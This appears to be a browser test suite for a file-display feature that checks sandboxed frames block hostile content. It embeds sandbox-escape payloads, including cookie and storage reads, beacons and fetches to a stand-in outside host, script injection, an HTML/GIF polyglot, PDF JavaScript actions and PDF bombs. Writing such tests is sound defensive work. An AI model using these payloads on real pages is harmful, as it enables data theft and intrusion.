import assert from "node:assert/strict";
import { deflateSync } from "node:zlib";
import { latin1, pdf, png, wav } from "../../daemon/app/display/testing.ts";
import { type Bytes, utf8 } from "../../daemon/base/mod.ts";
import { absent } from "../real_parts.ts";
import { launchBrowser } from "./dashboard.ts";
import { type Bed, called, GROUP, middle, shot, until, withStage } from "./stage_bed.ts";

const ESCAPES = `async ({ elsewhere, api }) => {
  const tried = {};
  const attempt = async (name, act) => {
    try {
      tried[name] = "got " + await act();
    } catch {
      tried[name] = "refused";
    }
  };
  const frameOf = (kind, attribute) =>
    new Promise((resolve, reject) => {
      const element = document.createElement(kind);
      element[attribute] = elsewhere + "/" + kind;
      element.onload = resolve;
      element.onerror = reject;
      setTimeout(reject, 1000);
      document.body.append(element);
    });
  tried.origin = self.origin;
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("api", () => fetch(api + "/api/status", { credentials: "include" }));
  await attempt("network", () => fetch(elsewhere + "/fetch", { mode: "no-cors" }));
  await attempt("own", () => fetch("/pdf.js"));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(elsewhere.replace("http", "ws"));
    socket.onopen = resolve;
    socket.onerror = reject;
  }));
  await attempt("script", () => frameOf("script", "src"));
  await attempt("image", () => frameOf("img", "src"));
  await attempt("inline", () => {
    const script = document.createElement("script");
    script.textContent = "globalThis.owned = 1";
    document.body.append(script);
    if (globalThis.owned !== 1) throw new Error();
  });
  await attempt("eval", () => new Function("return 1")());
  await attempt("popup", () => {
    if (open(elsewhere + "/popup") === null) throw new Error();
  });
  navigator.sendBeacon(elsewhere + "/beacon"); // true before it is tried
  try {
    top.location.href = elsewhere + "/top"; // Chromium refuses it in silence
  } catch {}
  const inner = document.createElement("iframe");
  inner.src = elsewhere + "/frame";
  document.body.append(inner);
  const form = document.createElement("form");
  form.action = elsewhere + "/form";
  document.body.append(form);
  form.submit();
  return tried;
}`;

const THEFT = `async (src) => {
  const fetched = await fetch(src).then(() => "fetched", () => "refused");
  const loaded = (element) =>
    new Promise((resolve) => {
      element.onerror = () => resolve("refused");
      element.addEventListener("loadedmetadata", () => resolve("loaded"));
      setTimeout(() => resolve("nothing"), 1000);
      element.src = src;
      document.body.append(element);
    });
  return [
    fetched,
    await loaded(document.createElement("audio")),
    await loaded(document.createElement("iframe")),
  ];
}`;

/** Everything a script might try from within, each step leaving a trace that would be seen. */
const hostile = (elsewhere: string) => `
  try { top.document.title = "owned" } catch {}
  try { parent.document.title = "owned" } catch {}
  try { top.location = "${elsewhere}/top" } catch {}
  try { open("${elsewhere}/popup") } catch {}
  try { fetch("${elsewhere}/fetch") } catch {}
  try { new Image().src = "${elsewhere}/image" } catch {}
  try { new WebSocket("${elsewhere.replace("http", "ws")}/socket") } catch {}
  try { navigator.sendBeacon("${elsewhere}/beacon") } catch {}
  try { alert(document.cookie) } catch {}
  try { parent.postMessage({ state: "ready" }, "*") } catch {}
`;

Deno.test({
  name: "what is shown, in Chromium",
  ignore: absent("chromium"),
  async fn(t) {
    const browser = await launchBrowser();
    const step = (name: string, work: (bed: Bed) => Promise<void>) =>
      t.step(name, () => withStage(browser, work));
    try {
      await step("a picture opens by itself, is replaced, taken back and closed", async (bed) => {
        const { page, show, app } = bed;
        await show(png(64, 48, [10, 200, 30]), "green.png");
        await page.getByRole("heading", { name: "green.png" }).waitFor();
        await until(async () => await middle(page) === "10,200,30", "the picture is seen");
        await shot(page, "display-picture");
        const first = (await bed.frame()).url();
        await show(png(64, 48, [200, 30, 10]), "red.png");
        await until(async () => await middle(page) === "200,30,10", "the other picture is seen");
        assert.notEqual(new URL(first).pathname, new URL((await bed.frame()).url()).pathname);
        await page.getByRole("button", { name: "Show what was shown" }).click();
        await page.getByText("Another file took its place.").waitFor();
        await shot(page, "display-history");
        app.stage.clear(GROUP, { from: "bob@fake.example", displayer: false });
        await page.locator(".display").waitFor({ state: "detached" });
      });

      await step("HTML, SVG and polyglots run nothing and reach nothing", async (bed) => {
        const { page, show, asked, elsewhere } = bed;
        const script = hostile(elsewhere);
        const files: [string, Bytes, string][] = [
          ["a.html", utf8(`<!doctype html><script>${script}</script>`), "<!doctype html>"],
          [
            "a.svg",
            utf8(
              `<svg xmlns="http://www.w3.org/2000/svg" onload="x"><script>${script}</script></svg>`,
            ),
            "<svg",
          ],
          [
            "a.png",
            utf8(`</pre><script>${script}</script><img src=x onerror="alert(1)">`),
            "</pre>",
          ],
        ];
        for (const [name, bytes, seen] of files) {
          await show(bytes, name);
          const frame = await bed.frame();
          await page.getByRole("heading", { name }).waitFor();
          await until(
            async () => (await frame.locator("pre").innerText()).startsWith(seen),
            `${name} is shown as text`,
          );
          assert.equal(await frame.locator("script, svg, img").count(), 0);
        }
        await shot(page, "display-html-as-text");
        // A picture that is a script and a page as well.
        const gif = latin1(
          `GIF89a\x01\0\x01\0\x80\0\0\xff\0\0\0\0\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;` +
            `<script>${script}</script>`,
        );
        await show(gif, "a.html");
        const frame = await bed.frame();
        await until(
          () => frame.evaluate<boolean>(`document.querySelector("img").naturalWidth === 1`),
          "the polyglot is a picture",
        );
        await page.waitForTimeout(300);
        assert.deepEqual(asked, []);
        assert.equal(await page.title(), "simppd");
      });

      await step("a frame has no origin, no cookie, no network, no way out", async (bed) => {
        const { page, show, asked, elsewhere, door } = bed;
        await show(pdf({ content: "BT /F1 40 Tf 40 90 Td (Hello) Tj ET" }), "a.pdf");
        const frame = await bed.frame();
        await frame.locator("canvas").waitFor();
        // As if pdf.js had been taken over: the debugger runs what a script there would.
        const found = await frame.evaluate<Record<string, string>>(
          called(ESCAPES, { elsewhere, api: door.url }),
        );
        await page.waitForTimeout(300);
        assert.equal(found["origin"], "null");
        delete found["origin"];
        const reached = Object.entries(found).filter(([, what]) => what !== "refused");
        assert.deepEqual(reached, []);
        assert.deepEqual(asked, []);
        assert.ok(page.url().startsWith(door.url));
      });

      await step("a PDF's JavaScript does not run; its pages are turned", async (bed) => {
        const { page, show, asked, elsewhere } = bed;
        const js =
          `app.alert("x"); app.launchURL("${elsewhere}/launch"); this.submitForm("${elsewhere}/form");`;
        const catalog = `/OpenAction << /S /JavaScript /JS (${js.replace(/[()\\]/g, "\\$&")}) >> ` +
          `/AA << /WC << /S /URI /URI (${elsewhere}/uri) >> >>`;
        const content = "0 0 1 rg 0 0 300 200 re f";
        await show(pdf({ content, pages: 3, catalog }), "three.pdf");
        const frame = await bed.frame();
        await frame.getByRole("img", { name: "Page 1 of 3" }).waitFor();
        await until(async () => await middle(page) === "0,0,255", "the page is drawn");
        await frame.getByRole("button", { name: "Next page" }).click();
        await frame.getByRole("img", { name: "Page 2 of 3" }).waitFor();
        await page.waitForTimeout(300);
        await shot(page, "display-pdf");
        assert.deepEqual(asked, []);
      });

      await step("PDF bombs are contained", async (bed) => {
        const { page, show } = bed;
        // A page of 200 by 200 inches, many pages, and a picture of a billion pixels.
        await show(pdf({ size: [14_400, 14_400], pages: 5_000 }), "wide.pdf");
        let frame = await bed.frame();
        await frame.getByRole("img", { name: "Page 1 of 5000" }).waitFor();
        const pixels = await frame.evaluate<number>(
          `(({ width, height }) => width * height)(document.querySelector("canvas"))`,
        );
        assert.ok(pixels <= 16_777_216, `${pixels}`);
        const image = "q 300 0 0 200 0 0 cm BI /W 40000 /H 40000 /CS /G /BPC 1 /F /RL ID " +
          "\x81\0".repeat(100) + "\nEI Q";
        await show(pdf({ content: image }), "image.pdf");
        frame = await bed.frame();
        await frame.getByRole("img", { name: "Page 1 of 1" }).waitFor();
        await show(latin1("%PDF-1.7\nnothing of one"), "broken.pdf");
        await (await bed.frame()).getByText("damaged").waitFor();
        await page.getByRole("heading", { name: "broken.pdf" }).waitFor();
      });

      await step("a PDF that takes too long is given up", async (bed) => {
        const { page, show } = bed;
        await page.clock.install();
        // Some hundred kilobytes that become three million curves.
        const lines = new Uint8Array(
          deflateSync(utf8("0 0 m 9 9 8 8 7 7 c S ".repeat(3_000_000))),
        );
        const content = Array.from(lines, (byte) => String.fromCharCode(byte)).join("");
        await show(pdf({ content, filter: "/FlateDecode" }), "slow.pdf");
        const frame = await bed.frame();
        await frame.locator("#page").waitFor({ state: "attached" });
        await page.waitForTimeout(500);
        for (let tries = 0; tries < 3; tries++) await page.clock.fastForward(16_000);
        await frame.getByText("takes too long").waitFor();
        // Its worker is gone, and the next file is shown as ever.
        await show(pdf({ content: "0 1 0 rg 0 0 300 200 re f" }), "fast.pdf");
        await (await bed.frame()).getByRole("img", { name: "Page 1 of 1" }).waitFor();
      });

      await step("sound and video play, and other pages get neither", async (bed) => {
        const { page, show, app } = bed;
        await show(wav(600), "long.wav");
        const long = await bed.frame();
        const sought = await long.evaluate<number[]>(`new Promise((resolve, reject) => {
          const audio = document.querySelector("audio");
          audio.onerror = reject;
          audio.onseeked = () => resolve([audio.currentTime, audio.duration]);
          audio.currentTime = 500;
        })`);
        assert.deepEqual(sought, [500, 600]);
        await show(wav(2), "a.wav");
        const frame = await bed.frame();
        await until(
          () => frame.evaluate<boolean>(`document.querySelector("audio").duration === 2`),
          "the sound is read",
        );
        const src = await frame.locator("audio").getAttribute("src");
        // Another page of this machine knows the URL.
        const stranger = await page.context().newPage();
        await stranger.goto(bed.elsewhere);
        const got = await stranger.evaluate<string[]>(called(THEFT, src));
        assert.deepEqual(got, ["refused", "refused", "nothing"]);
        await stranger.close();
        bed.asked.length = 0;
        app.stage.dismiss(null);
        await page.locator(".display-frame iframe").waitFor({ state: "detached" });
      });

      await step("the kiosk shows the stage alone, and what comes", async (bed) => {
        const { page, show } = bed;
        await page.goto(`${bed.door.launchLink()}&kiosk`);
        await page.getByRole("heading", { name: "Nothing is shown" }).waitFor();
        assert.equal(new URL(page.url()).hash, "#kiosk");
        assert.equal(await page.getByRole("navigation").count(), 0);
        await show(png(64, 48, [30, 60, 200]), "blue.png");
        await until(async () => await middle(page) === "30,60,200", "the picture is seen");
        await page.waitForSelector(".kiosk-still");
        await page.waitForTimeout(300);
        const box = await page.locator(".display-frame iframe").boundingBox();
        assert.deepEqual([box!.width, box!.height], [1280, 800]);
        await shot(page, "display-kiosk");
        await page.reload();
        await page.getByRole("heading", { name: "blue.png" }).waitFor();
        await page.mouse.move(200, 200);
        await page.getByRole("button", { name: "Leave this view" }).click();
        await page.getByRole("navigation").waitFor();
      });
    } finally {
      await browser.close();
    }
  },
});
